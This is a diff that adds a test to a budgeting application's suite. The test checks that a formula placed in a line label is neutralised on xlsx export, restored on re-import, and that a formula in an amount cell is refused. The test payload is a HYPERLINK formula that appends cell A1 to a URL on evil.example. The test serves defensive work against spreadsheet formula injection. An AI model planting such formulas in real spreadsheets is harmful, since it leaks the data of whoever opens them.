@@ -22,6 +22,7 @@ from adapters.budget_import import MAX_FILE, OLE_SIGNATURE
 from adapters.budget_workbook import TABLE_ROW
 from adapters.demo import DemoPlan
 from domain.budgets import Budget
+from domain.context import acting_as
 from domain.plans import Plan
 from projections import queries
 from projections.tables import audit_log
@@ -281,3 +282,24 @@ def test_a_budget_of_the_most_lines_imports_and_one_more_line_is_refused(
     budget_id = _new_budget(_import(anna, demo.plan_id, _lines_csv(1_000), "stor.csv"))
     assert len(demo_system.app.load(Budget, budget_id).order) == 1_000
     assert _stored(demo_system) == before + 1
+
+
+def test_text_the_export_neutralised_comes_back_as_it_was_and_a_formula_amount_is_refused(
+        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    with demo_system.engine.connect() as conn:
+        first = queries.budget_sheet(conn, demo.budget_id).lines[0]["line_id"]
+    anna_id = next(p.person_id for p in demo.people if p.name.startswith("Anna"))
+    with acting_as(anna_id):
+        demo_system.app.rename_line(demo.budget_id, first, hyperlink)
+    _wait(demo_system)
+    exported = anna.get(f"/budgets/{demo.budget_id}/export.xlsx?lang=en").get_data()
+    assert _cells(exported)[0][TABLE_ROW][0] == "'" + hyperlink
+    budget_id = _new_budget(_import(anna, demo.plan_id, exported))
+    budget = demo_system.app.load(Budget, budget_id)
+    assert budget.lines[budget.order[0]]["label"]["value"] == hyperlink
+    book = load_workbook(io.BytesIO(exported))
+    book.worksheets[0].cell(TABLE_ROW + 1, 4).value = "=1+1"
+    reply = _import(anna, demo.plan_id, _save(book))
+    assert reply.status_code == 422
+    assert f"cell D{TABLE_ROW + 1}: Write an amount in kronor" in _text(reply)
